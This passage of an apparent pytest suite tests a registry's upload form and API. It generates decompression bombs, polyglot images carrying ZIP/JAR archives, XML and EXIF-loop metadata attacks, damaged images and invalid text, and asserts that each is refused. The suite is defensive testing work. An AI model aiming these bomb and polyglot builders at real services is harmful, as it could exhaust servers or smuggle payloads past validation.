    words = "x" * (REQUEST_LIMIT + 10)
    cases.append(
        Case(
            "oversized",
            "pasted-over-request",
            (OVER_REQUEST,),
            text=words,
            category="text",
            status=(413,),
        )
    )
    return cases


def _invalid_text(rng: random.Random) -> list[Case]:
    cases = []
    for name, text in TEXTS.items():  # legacy encodings
        for encoding in LEGACY:
            try:
                data = text.encode(encoding)
            except UnicodeEncodeError:
                continue
            if is_plain_utf8_text(data):  # pure ASCII in this encoding: not a hostile case
                continue
            cases.append(
                Case("invalid-text", f"{name}-{encoding}", (UTF8,), data, "poem.txt", "text")
            )
    for _ in range(40):  # invalid UTF-8 sequences spliced into valid text
        data = bytearray(TEXTS[rng.choice(list(TEXTS))].encode())
        bad = rng.choice(INVALID_UTF8)
        at = rng.randrange(len(data))
        data[at:at] = bad
        assert not is_plain_utf8_text(bytes(data))
        cases.append(
            Case(
                "invalid-text",
                f"splice-{bad.hex()}",
                (UTF8,),
                bytes(data),
                "t.txt",
                "text",
                action=rng.choice(["submit", "save"]),
            )
        )
    for i in range(10):  # cut inside a multi-byte character
        data = TEXTS[rng.choice(["essay-zh", "japanese", "korean", "russian"])].encode()
        cut = rng.choice([i for i in range(1, len(data)) if data[i] & 0xC0 == 0x80])
        cases.append(
            Case("invalid-text", "cut-mid-character", (UTF8,), data[:cut], "t.txt", "text")
        )
    controls = [0, 1, 2, 7, 8, 0x0B, 0x0E, 0x1B, 0x1F, 0x7F, 0x80, 0x84, 0x9B, 0x9F]
    for _ in range(30):  # control characters, NUL among them
        text = TEXTS[rng.choice(list(TEXTS))]
        at = rng.randrange(len(text))
        c = chr(rng.choice(controls))
        data = (text[:at] + c * rng.randint(1, 3) + text[at:]).encode()
        cases.append(
            Case("invalid-text", f"control-U+{ord(c):04X}", (CONTROL,), data, "t.txt", "text")
        )
    for name in ["poem", "essay", "french", "greek"]:  # UTF-16 and UTF-32
        for encoding, expect in [
            ("utf-16-le", (UTF16,)),
            ("utf-16-be", (UTF16,)),
            ("utf-16", (UTF16,)),  # with a byte-order mark
            ("utf-32", (UTF16,)),
            ("utf-32-le", (CONTROL, UTF8)),
        ]:
            if name == "greek" and encoding in ("utf-16-le", "utf-16-be"):
                expect = (UTF16, UTF8)  # few zero bytes: it may read as broken UTF-8
            data = TEXTS[name].encode(encoding)
            cases.append(Case("invalid-text", f"{name}-{encoding}", expect, data, "t.txt", "text"))
    cases.append(Case("invalid-text", "nul-only", (CONTROL,), b"\0" * 64, "nul.txt", "text"))
    for _ in range(12):  # pasted text with bytes that are not UTF-8 (sent raw in the form)
        data = bytearray(TEXTS[rng.choice(list(TEXTS))].encode())
        at = rng.randrange(len(data))
        data[at:at] = rng.choice(INVALID_UTF8)
        assert not is_plain_utf8_text(bytes(data))
        cases.append(
            Case("invalid-text", "pasted-not-utf8", (REPLACED,), text=bytes(data), category="text")
        )
    for _ in range(10):  # pasted text with control characters
        text = TEXTS[rng.choice(list(TEXTS))]
        c = chr(rng.choice(controls))
        at = rng.randrange(len(text))
        cases.append(
            Case(
                "invalid-text",
                f"pasted-U+{ord(c):04X}",
                (CONTROL,),
                text=text[:at] + c + text[at:],
                category="text",
            )
        )
    return cases


def _metadata(rng: random.Random) -> list[Case]:
    cases: list[Case] = []

    def add(name: str, expect: str, data: bytes, filename: str = "meta.png") -> None:
        assert len(data) < DEPOSIT_LIMIT, (name, len(data))
        cases.append(Case("hostile-metadata", name, (expect,), data, filename))

    keys = [b"parameters", b"Comment", b"AIGC", b"prompt", b"workflow", b"Description"]
    for _ in range(7):  # a huge text chunk, uncompressed
        size = rng.randint(1_048_577, 1_900_000)
        value = bytes(rng.choice(b"abcdefgh ") for _ in range(64)) * (size // 64 + 1)
        add(
            f"png-text-{size}",
            META_BLOCK,
            _png_with([png_chunk(b"tEXt", rng.choice(keys) + b"\0" + value[:size])]),
        )
    for i in range(24):  # compressed text chunks that unpack past the limit
        size = rng.choice([1_048_577, 2_000_000, 16_000_000, 32_000_000, rng.randint(2, 30) << 20])
        unit = rng.choice([b"\0", b"A", b"lol"])
        packed = zlib.compress(unit * (size // len(unit) + 1), 9)
        key = rng.choice([*keys, b"XML:com.adobe.xmp"])
        if i % 2:
            chunk = png_chunk(b"zTXt", key + b"\0\0" + packed)
        else:
            chunk = png_chunk(b"iTXt", key + b"\0\x01\0\0\0" + packed)
        add(f"png-{'zTXt' if i % 2 else 'iTXt'}-bomb-{size}", META_BOMB, _png_with([chunk]))
    for _ in range(6):  # a colour profile bomb
        size = rng.choice([2_000_000, 50_000_000, rng.randint(2, 20) << 20])
        packed = zlib.compress(b"\0" * size, 9)
        add(
            f"png-iccp-bomb-{size}",
            META_BOMB,
            _png_with([png_chunk(b"iCCP", b"ICC Profile\0\0" + packed)]),
        )
    for i in range(3):  # many blocks, each under the limit, together over it
        chunks = [
            png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"\0" * 1_000_000, 9))
            for _ in range(9 + i)
        ]
        add(f"png-total-{9 + i}-MB", META_TOTAL, _png_with(chunks))
    for i in range(6):  # a huge XMP packet
        size = rng.randint(1_048_577, 1_800_000)
        packet = (XPACKET + XMP_OPEN + "<dc:description>" + "A" * size).encode()
        packet += ("</dc:description>" + XMP_CLOSE).encode()
        if i % 2:
            add(
                f"webp-xmp-{size}",
                META_BLOCK,
                _webp_with([riff_chunk(b"XMP ", packet)]),
                "meta.webp",
            )
        else:
            add(
                f"png-xmp-{size}",
                META_BLOCK,
                _png_with([png_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet)]),
            )
    for i in range(45):  # XML attacks and deep nesting in XMP, in each carrier
        carrier = ["png", "jpeg", "webp"][i % 3]
        room = 65_000 if carrier == "jpeg" else 900_000
        kind, packet = xmp_hostile(rng, room=room)
        expect = META_DEEP if kind.startswith("deep") else META_DTD
        if carrier == "png":
            key = b"XML:com.adobe.xmp"
            chunk = png_chunk(b"iTXt", key + b"\0\0\0\0\0" + packet)
            if rng.random() < 0.3:
                chunk = png_chunk(b"iTXt", key + b"\0\x01\0\0\0" + zlib.compress(packet))
            add(f"png-xmp-{kind}", expect, _png_with([chunk]))
        elif carrier == "jpeg":
            segment = jpeg_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + packet)
            add(f"jpeg-xmp-{kind}", expect, _jpeg_with([segment]), "meta.jpg")
        else:
            add(f"webp-xmp-{kind}", expect, _webp_with([riff_chunk(b"XMP ", packet)]), "meta.webp")
    for _ in range(12):  # deeply nested JSON in a text chunk
        key = rng.choice(keys)
        value = deep_json(rng).encode()
        chunk = png_chunk(b"tEXt", key + b"\0" + value)
        if len(value) > 300_000:
            chunk = png_chunk(b"zTXt", key + b"\0\0" + zlib.compress(value, 9))
        add(f"png-json-deep-{key.decode()}", META_DEEP, _png_with([chunk]))
    for i, (maker, expect) in enumerate(
        [(exif_loop, EXIF_LOOP)] * 30
        + [(exif_huge, EXIF_HUGE)] * 12
        + [(exif_chain, EXIF_CHAIN)] * 8
    ):
        shape, blob = maker(rng)
        carrier = ["jpeg", "png", "webp"][i % 3]
        if carrier == "jpeg":
            data = _jpeg_with([jpeg_segment(0xE1, b"Exif\0\0" + blob)])
        elif carrier == "png":
            data = _png_with([png_chunk(b"eXIf", blob)])
        else:
            data = _webp_with([riff_chunk(b"EXIF", blob)])
        add(f"{carrier}-exif-{shape}", expect, data, f"meta.{EXTENSIONS[carrier.upper()]}")
    for i in range(9):  # too many metadata blocks
        n = rng.randint(1_001, 3_000)
        carrier = ["png", "jpeg", "webp"][i % 3]
        if carrier == "png":
            data = _png_with([png_chunk(b"tEXt", b"k\0v")] * n)
        elif carrier == "jpeg":
            data = _jpeg_with([jpeg_segment(0xFE, b"c")] * n)
        else:
            data = _webp_with([riff_chunk(b"META", b"m")] * n)
        add(f"{carrier}-{n}-blocks", META_COUNT, data, f"meta.{EXTENSIONS[carrier.upper()]}")
    return cases


def _rows(group: str, fields: tuple[str, ...], n: int) -> tuple[tuple[str, object], ...]:
    return tuple(
        (f"{group}-{i}-{name}", f"{group} {i} {name}") for i in range(1, n) for name in fields
    )


AUTHOR = ("name", "signing", "pseudonym", "citizenship", "contribution")
TOOL = ("name", "version", "provider", "usage")
SOURCE = ("description", "origin", "licence")


def _form_parts(rng: random.Random) -> list[Case]:
    cases = []
    for n in [MAX_FORM_PARTS + 1, 600, 1_000, 2_500, 5_000, rng.randint(501, 4_000)]:
        extra = tuple((f"x{i}", "y") for i in range(n))
        cases.append(
            Case("form-parts", f"{n}-fields", (TOO_MANY_PARTS,), extra=extra, status=(413,))
        )
    for n in [MAX_FORM_PARTS + 1, 1_200]:
        extra = tuple(("title", "t") for _ in range(n))
        cases.append(
            Case("form-parts", f"{n}-titles", (TOO_MANY_PARTS,), extra=extra, status=(413,))
        )
    for n in [600, 900]:
        files = tuple((b"x", f"f{i}.png") for i in range(n))
        cases.append(
            Case(
                "form-parts",
                f"{n}-file-parts",
                (TOO_MANY_PARTS,),
                files=files,
                status=(413,),
            )
        )
    for group, fields, most in [
        ("authors", AUTHOR, 20),
        ("ai_tools", TOOL, 20),
        ("sources", SOURCE, 30),
    ]:
        for n in sorted({most + 1, most + 2, rng.randint(most + 1, 80)}):
            for action in ("submit", "save"):
                cases.append(
                    Case(
                        "form-parts",
                        f"{n}-{group}",
                        (ROWS,),
                        base_image("PNG"),
                        "w.png",
                        action=action,
                        extra=_rows(group, fields, n),
                    )
                )
        add = {"authors": "add_author", "ai_tools": "add_tool", "sources": "add_source"}[group]
        cases.append(
            Case(
                "form-parts",
                f"{add}-at-{most}",
                (ROWS,),
                action=add,
                extra=_rows(group, fields, most),
                status=(200,),
            )
        )
    for n in (2, 3, 5):
        files = tuple((base_image("PNG", i % 3), f"part{i}.png") for i in range(n - 1))
        for action in ("submit", "save"):
            cases.append(
                Case(
                    "form-parts",
                    f"{n}-deposit-files",
                    (ONE_FILE,),
                    base_image("JPEG"),
                    "w.jpg",
                    action=action,
                    files=files,
                )
            )
    for i in range(4):
        cases.append(
            Case(
                "form-parts",
                "file-and-pasted-text",
                (BOTH,),
                base_image("PNG"),
                "w.png",
                text=POEM,
                action=["submit", "save"][i % 2],
            )
        )
    for field, most in [
        ("title", 300),
        ("claimant_name", 300),
        ("authors-0-name", 200),
        ("ai_material", 10_000),
        ("new_material", 2_000),
    ]:
        cases.append(
            Case(
                "form-parts",
                f"long-{field}",
                (FIELD_LENGTH,),
                base_image("PNG"),
                "w.png",
                replace=((field, "x" * rng.randint(most + 1, 500_000)),),
            )
        )
    return cases


ARCHIVE_SIGNATURES = [
    b"Rar!\x1a\x07\x01\x00",
    b"Rar!\x1a\x07\x00",
    b"7z\xbc\xaf\x27\x1c\x00\x04",
    b"\xfd7zXZ\x00\x00",
    b"MSCF\x00\x00\x00\x00",
    b"%PDF-1.7\n",
]


def _outside_attack(rng: random.Random) -> list[Case]:
    """What an outside attack found accepted: JPEGs in hundreds of scans, archives inside
    segments and chunks, multi-picture JPEGs whose pictures are not what their index says, PNG
    and WebP image data damaged behind good checksums and sizes, texts with nothing visible."""
    cases = []
    for i in range(24):  # scans: each costs a pass over the whole picture
        base = base_image("JPEG", 1 + 2 * (i % 2))  # the progressive variants
        scans = rng.choice([33, 40, 64, 100, 300, rng.randint(33, 500)])
        data = jpeg_with_scans(base, scans)
        if i % 4 == 3:  # in the gain map of an Ultra HDR photo
            data = multi_picture(base_image("JPEG"), data)
        cases.append(Case("decompression-bomb", f"jpeg-{scans}-scans", (SCANS,), data, "p.jpg"))
    for i in range(48):  # an archive inside a segment or chunk (appended ones are refused too)
        kind, blob = rng.choice(
            [("zip", zip_payload(False)), ("jar", zip_payload(True))]
            + [(f"sig-{s[:3].hex()}", s + rng.randbytes(40)) for s in ARCHIVE_SIGNATURES]
        )
        carrier = i % 8
        if carrier == 0:
            data, where = _jpeg_with([jpeg_segment(0xFE, blob)]), "jpeg-com"
        elif carrier == 1:
            data, where = _jpeg_with([jpeg_segment(0xE1, blob)]), "jpeg-app1"
        elif carrier == 2:
            data, where = _jpeg_with([jpeg_segment(0xEF, blob)]), "jpeg-app15"
        elif carrier == 3:
            data = _png_with([png_chunk(b"tEXt", b"Comment\0" + blob)])
            where = "png-text"
        elif carrier == 4:
            data, where = _png_with([png_chunk(b"prVt", blob)]), "png-private"
        elif carrier == 5:
            data, where = _webp_with([riff_chunk(b"ZIPF", blob)]), "webp-chunk"
        elif carrier == 6:
            data, where = _webp_with([riff_chunk(b"XMP ", blob)]), "webp-xmp"
        else:
            gain = _jpeg_with([jpeg_segment(0xFE, blob)], base_image("JPEG", 2))
            data, where = multi_picture(base_image("JPEG"), gain), "gain-map-com"
        cases.append(Case("polyglot", f"{kind}-in-{where}", (HIDDEN,), data, "art.jpg"))
    for i in range(24):  # multi-picture JPEGs whose pictures do not match their index
        primary, gain = base_image("JPEG", i % 3), base_image("JPEG", 2)
        shape = rng.choice(["appended", "sizes", "zip-for-gain-map", "extra", "missing", "many"])
        if shape == "appended":
            kind, extra = payload(rng)
            data, expect = ultra_hdr() + extra, (TRAILING,)
        elif shape == "sizes":
            sizes = [len(primary) + rng.randint(-20, 20) or 1, len(gain) + rng.randint(1, 60)]
            data, expect = multi_picture(primary, gain, sizes=sizes), (MISMATCH, TRUNCATED)
        elif shape == "zip-for-gain-map":
            data, expect = multi_picture(primary, zip_payload(i % 2 == 1)), (MISMATCH,)
        elif shape == "extra":
            data, expect = multi_picture(primary, gain + zip_payload(False)), (MISMATCH,)
        elif shape == "missing":
            data, expect = multi_picture(primary, gain, count=3), (TRUNCATED,)
        else:
            data, expect = multi_picture(primary, gain, count=rng.randint(9, 300)), (PICTURES,)
        cases.append(Case("polyglot", f"mpf-{shape}", expect, data, "IMG_0001.JPG"))
    for i in range(18):  # PNG image data damaged behind good chunk checksums
        img = scene(300 + i, (48, 32)).convert("RGB")
        stride = 1 + 48 * 3
        raw = b"".join(b"\0" + img.tobytes()[y * 144 : (y + 1) * 144] for y in range(32))
        shape = ["short", "filter", "long"][i % 3]
        if shape == "short":
            raw = raw[: -rng.randint(1, 4 * stride)]
        elif shape == "filter":
            row = rng.randrange(32)
            raw = raw[: row * stride] + bytes([rng.randint(5, 255)]) + raw[row * stride + 1 :]
        else:
            raw += b"\0" * rng.randint(1, 3 * stride)
        data = encoded(img, "PNG")
        start, end = data.index(b"IDAT") - 4, data.index(b"IEND") - 4
        data = data[:start] + png_chunk(b"IDAT", zlib.compress(raw)) + data[end:]
        cases.append(Case("corrupt", f"png-image-data-{shape}", (DAMAGED,), data, "x.png"))
    for i in range(10):  # a WebP bitstream cut short, its chunk and RIFF sizes made to fit
        data = base_image("WEBP", i % 2)
        body = data[20 : 20 + int.from_bytes(data[16:20], "little")]
        cut = body[: rng.randint(len(body) // 4, len(body) * 3 // 4)]
        cut += b"\0" * (len(cut) & 1)
        rebuilt = b"WEBP" + data[12:16] + struct.pack("<I", len(cut)) + cut
        data = b"RIFF" + struct.pack("<I", len(rebuilt)) + rebuilt
        cases.append(Case("corrupt", "webp-bitstream-cut", (DAMAGED,), data, "x.webp"))
    invisible = [*"\u200b\u200c\u200d\u200e\u200f\u2060\u2066\u2069\u202e\ufeff\u00ad"]
    invisible += ["\u3164", "\u2800", "\ufe0f", "\U000e0041"]
    for i in range(20):  # texts with nothing visible in them, as files and pasted
        text = "".join(rng.choice(invisible) for _ in range(rng.randint(1, 200)))
        text += rng.choice(["", "\n", " \n", "\u3000"])
        if i % 2:
            data = text.encode()
            case = Case("invalid-text", "invisible-file", (INVISIBLE,), data, "t.txt", "text")
            cases.append(case)
        else:
            cases.append(
                Case("invalid-text", "invisible-pasted", (INVISIBLE,), text=text, category="text")
            )
    for _ in range(4):  # U+FFFD pasted (through the API too: the same rule)
        text = TEXTS[rng.choice(list(TEXTS))]
        at = rng.randrange(len(text))
        text = text[:at] + "\ufffd" + text[at:]
        cases.append(Case("invalid-text", "pasted-U+FFFD", (REPLACED,), text=text, category="text"))
    return cases


FAMILIES = [
    _truncated,
    _corrupt,
    _huge_dimensions,
    _bombs,
    _polyglots,
    _wrong_extension,
    _empty,
    _oversized,
    _invalid_text,
    _metadata,
    _form_parts,
    _outside_attack,
]


@functools.cache
def all_cases() -> tuple[Case, ...]:
    rng = random.Random(SEED)
    return tuple(case for family in FAMILIES for case in family(rng))


@functools.cache
def postgres_sample() -> tuple[Case, ...]:
    """About a tenth of each family, evenly spread (oversized requests kept to one)."""
    by_family: dict[str, list[Case]] = defaultdict(list)
    for case in all_cases():
        by_family[case.family].append(case)
    sample = []
    for cases in by_family.values():
        step = max(1, len(cases) // max(3, round(len(cases) / 10)))
        sample.extend(cases[::step])
    return tuple(sample)


# ---- posting and checking ------------------------------------------------------------------------


def multipart(parts: list[tuple[str, object]]) -> tuple[bytes, str]:
    boundary = f"hostile{random.Random(len(parts)).getrandbits(96):024x}"
    marker = b"--" + boundary.encode()
    out = []
    for name, value in parts:
        if isinstance(value, tuple):
            data, filename = value
            head = (
                f'Content-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                "Content-Type: application/octet-stream\r\n\r\n"
            )
        else:
            data = value.encode() if isinstance(value, str) else value
            head = f'Content-Disposition: form-data; name="{name}"\r\n\r\n'
        assert marker not in data
        out += [marker, b"\r\n", head.encode(), data, b"\r\n"]
    out += [marker, b"--\r\n"]
    return b"".join(out), f"multipart/form-data; boundary={boundary}"


def post_case(client, token: str, case: Case):  # type: ignore[no-untyped-def]
    decl = declaration() if case.category == "image" else text_declaration()
    parts: list[tuple[str, object]] = list({**form_fields(decl), **dict(case.replace)}.items())
    parts += [("action", case.action), ("csrf_token", token), *case.extra]
    data = case.data()
    if data is not None:
        parts.append(("deposit_file", (data, case.filename)))
    parts += [("deposit_file", f) for f in case.files]
    if case.text is not None:
        parts.append(("deposit_text", case.text))
    body, content_type = multipart(parts)
    return client.post("/filings/new", data=body, content_type=content_type)


_MESSAGES = re.compile(
    r'<ul class="field-errors"[^>]*>(.*?)</ul>|<h1>[^<]*</h1>\s*<p>(.*?)</p>', re.S
)


def shown(page: str) -> str:
    """The messages on a page (field errors, or an error page's explanation), for reports."""
    found = [" ".join(g for g in m.groups() if g) for m in _MESSAGES.finditer(page)]
    return re.sub(r"<[^>]+>", " ", " | ".join(found))[:300]


def judge(case: Case, status: int, page: str) -> str | None:
    """None when the case was refused as it should be; else what went wrong."""
    if status >= 500 or SERVER_ERROR in page:
        return f"server error {status}"
    if status not in case.status:
        return f"status {status}, expected {case.status}: {shown(page)}"
    if not any(message in page for message in case.expect):
        return f"none of {case.expect} shown: {shown(page)}"
    return None


def row_counts(engine) -> dict[str, int]:  # type: ignore[no-untyped-def]
    with engine.connect() as conn:
        return {
            name: conn.execute(sql(f'SELECT count(*) FROM "{name}"')).scalar_one()
            for name in sa_inspect(conn).get_table_names()
        }


def files_under(*roots: Path) -> list[str]:
    return sorted(
        {str(p) for root in roots if root.exists() for p in root.rglob("*") if p.is_file()}
    )


def report(title: str, results: list[tuple[Case, int, str | None]], seconds: float) -> dict:
    per_family: dict[str, Counter] = defaultdict(Counter)
    for case, status, problem in results:
        per_family[case.family]["cases"] += 1
        per_family[case.family][f"status {status}"] += 1
        if problem:
            per_family[case.family]["failed"] += 1
        if case.vague:
            per_family[case.family]["vague message"] += 1
    lines = [f"{title}: {len(results)} cases in {seconds:.1f} s"]
    for family, counts in per_family.items():
        lines.append(f"  {family:<20} " + ", ".join(f"{k}: {v}" for k, v in sorted(counts.items())))
    print("\n".join(lines))
    return {family: dict(counts) for family, counts in per_family.items()}


@pytest.fixture
def unlimited(app):
    """No rate limit on filing: a thousand posts from one address are this suite's job."""
    app.extensions["registry"].settings.filing_limit = "1000000 per minute"
    return app


def test_the_limits_are_those_the_cases_are_built_for(app):
    assert app.extensions["registry"].settings.max_deposit_bytes == DEPOSIT_LIMIT
    assert app.config["MAX_CONTENT_LENGTH"] == REQUEST_LIMIT
    assert app.extensions["registry"].settings.max_text_bytes == TEXT_LIMIT
    assert app.extensions["registry"].settings.max_image_pixels == PIXEL_LIMIT
    assert app.config["MAX_FORM_PARTS"] == MAX_FORM_PARTS
    assert app.config["MAX_FORM_MEMORY_SIZE"] > REQUEST_LIMIT  # pasted text meets the form first


def test_the_generator_is_deterministic_and_covers_every_family():
    cases = all_cases()
    assert len(cases) >= 1_000
    families = Counter(c.family for c in cases)
    assert set(families) == {
        "truncated",
        "corrupt",
        "huge-dimensions",
        "decompression-bomb",
        "polyglot",
        "wrong-extension",
        "empty",
        "oversized",
        "invalid-text",
        "hostile-metadata",
        "form-parts",
    }
    assert min(families.values()) >= 20
    again = _truncated(random.Random(SEED))  # the first family, from the same seed
    assert again == list(cases[: len(again)])
    # No text case is accidentally plain UTF-8 text (the registry would rightly take it).
    for case in cases:
        if case.family == "invalid-text" and isinstance(case.file, bytes):
            assert not is_plain_utf8_text(case.file), case.name


@pytest.mark.slow
def test_hostile_uploads_through_the_filing_form(
    unlimited, backend, client, auth, engine, store, instance_path, record_property
):
    cases = all_cases() if backend == "sqlite" else postgres_sample()
    auth.login()
    token = csrf_token(client, "/filings/new")
    cache_dir = unlimited.extensions["registry"].cache_dir
    rows_before = row_counts(engine)
    files_before = files_under(instance_path, store.root, cache_dir)
    results = []
    started = time.perf_counter()
    for case in cases:
        response = post_case(client, token, case)
        page = html.unescape(response.get_data(as_text=True))
        results.append((case, response.status_code, judge(case, response.status_code, page)))
    seconds = time.perf_counter() - started
    counts = report(f"web form on {backend}", results, seconds)
    rows_after = row_counts(engine)
    files_after = files_under(instance_path, store.root, cache_dir)
    record_property("hostile_cases", len(cases))
    record_property("hostile_families", json.dumps(counts))
    record_property("hostile_seconds", round(seconds, 1))
    failures = [f"{c.family}/{c.name}: {problem}" for c, _, problem in results if problem]
    assert not failures, f"{len(failures)} of {len(cases)} cases:\n" + "\n".join(failures[:40])
    assert rows_after == rows_before, {
        t: (rows_before.get(t), n) for t, n in rows_after.items() if rows_before.get(t) != n
    }
    assert files_after == files_before, sorted(set(files_after) ^ set(files_before))[:20]


# ---- a sample through the JSON API ---------------------------------------------------------------

API_LIMIT = DEPOSIT_LIMIT * 4 // 3 + (2 << 20)  # the API allows for base64's third


@functools.cache
def api_sample() -> tuple[Case, ...]:
    """Every 14th case that carries a file or a pasted str (the form's own parts aside)."""
    usable = [
        c
        for c in all_cases()
        if c.family != "form-parts"
        and not c.files
        and (c.file is not None or isinstance(c.text, str))
        and not (c.file is not None and c.text is not None)
        and c.expect != (NO_DEPOSIT,)
        and not (c.family == "oversized" and c.text is not None)  # see the xfail test below
    ]
    return tuple(usable[::14])


def test_a_sample_through_the_api(
    unlimited, backend, client, session, engine, store, instance_path
):
    user = make_user(session)
    _row, value = tokens.create(session=session, user=user, name="hostile")
    headers = {"Authorization": f"Bearer {value}"}
    rows_before = row_counts(engine)
    files_before = files_under(instance_path, store.root)
    results = []
    started = time.perf_counter()
    cases = api_sample()
    for case in cases:
        decl = API_DECLARATION if case.category == "image" else API_LITERARY
        data = case.data()
        if data is not None:
            deposit = {"filename": case.filename, "content_base64": base64.b64encode(data).decode()}
            body = json.dumps({"declaration": decl, "deposit": deposit})
        else:
            body = json.dumps({"declaration": decl, "deposit": {"text": case.text}})
        response = client.post(
            "/api/v1/registrations", data=body, content_type="application/json", headers=headers
        )
        problem = None
        error = (response.get_json(silent=True) or {}).get("error") or {}
        said = json.dumps(error, ensure_ascii=False)
        expected = 413 if len(body) > API_LIMIT else 422
        messages = (OVER_FILE,) if case.status == (413,) else case.expect  # a larger budget
        if response.status_code >= 500:
            problem = f"server error {response.status_code}"
        elif response.status_code != expected or not error.get("message"):
            problem = f"status {response.status_code}: {said[:200]}"
        elif expected == 422 and not any(m in said for m in messages):
            problem = f"none of {messages} in {said[:200]}"
        results.append((case, response.status_code, problem))
    report(f"API on {backend}", results, time.perf_counter() - started)
    failures = [f"{c.family}/{c.name}: {p}" for c, _, p in results if p]
    assert len(cases) >= 60 and not failures, "\n".join(failures[:40])
    assert row_counts(engine) == rows_before
    assert files_under(instance_path, store.root) == files_before


def test_unpaired_surrogates_in_an_api_declaration_are_422(unlimited, client, session, engine):
    user = make_user(session)
    _row, value = tokens.create(session=session, user=user, name="hostile")
    rows_before = row_counts(engine)
    body = json.dumps({"declaration": {**API_LITERARY, "title": "TITLE"}, "deposit": {"text": "A"}})
    response = client.post(
        "/api/v1/registrations",
        data=body.replace("TITLE", "\\ud800 lone"),
        content_type="application/json",
        headers={"Authorization": f"Bearer {value}"},
    )
    assert response.status_code == 422, response.get_data(as_text=True)
    assert "not valid Unicode" in response.get_json()["error"]["fields"]["title"][0]
    assert row_counts(engine) == rows_before


# ---- faults fixed outside the upload decoding ----------------------------------------------


def test_an_unpaired_surrogate_in_api_text_is_refused_not_a_500(unlimited, client, session):
    user = make_user(session)
    _row, value = tokens.create(session=session, user=user, name="hostile")
    body = json.dumps({"declaration": API_LITERARY, "deposit": {"text": "TEXT"}})
    response = client.post(
        "/api/v1/registrations",
        data=body.replace("TEXT", "a poem \\udc80 here"),
        content_type="application/json",
        headers={"Authorization": f"Bearer {value}"},
    )
    assert response.status_code == 422
    assert "not valid UTF-8" in response.get_json()["error"]["message"]


def test_too_many_form_parts_are_refused_with_a_message_that_says_so(unlimited, client, auth):
    auth.login()
    case = next(c for c in all_cases() if c.name == f"{MAX_FORM_PARTS + 1}-fields")
    response = post_case(client, csrf_token(client, "/filings/new"), case)
    page = html.unescape(response.get_data(as_text=True))
    assert response.status_code == 413
    assert "larger than this registry accepts" not in page
    assert re.search(r"too many (fields|parts)", page, re.I)


def test_text_pasted_over_the_limit_through_the_api_is_told_the_limit(unlimited, client, session):
    user = make_user(session)
    _row, value = tokens.create(session=session, user=user, name="hostile")
    body = {"declaration": API_LITERARY, "deposit": {"text": "x" * (TEXT_LIMIT + 1)}}
    response = client.post(
        "/api/v1/registrations", json=body, headers={"Authorization": f"Bearer {value}"}
    )
    assert response.status_code == 422
    assert "256 KB" in response.get_json()["error"]["message"]
